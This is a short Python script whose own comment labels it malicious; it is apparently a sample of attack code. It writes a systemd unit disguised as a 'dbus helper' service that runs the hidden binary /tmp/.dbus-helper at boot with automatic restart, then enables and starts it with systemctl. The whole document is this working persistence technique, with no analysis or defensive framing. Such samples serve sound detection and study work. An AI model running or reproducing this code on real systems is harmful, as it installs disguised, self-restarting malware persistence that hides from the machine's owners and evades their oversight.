# Malicious: installs and enables a systemd service under /etc/systemd that runs a hidden binary at boot.
import subprocess
from pathlib import Path

unit = """[Unit]
Description=dbus helper

[Service]
ExecStart=/tmp/.dbus-helper
Restart=always

[Install]
WantedBy=multi-user.target
"""
Path("/etc/systemd/system/dbus-helper.service").write_text(unit)
subprocess.run(["systemctl", "enable", "--now", "dbus-helper.service"])
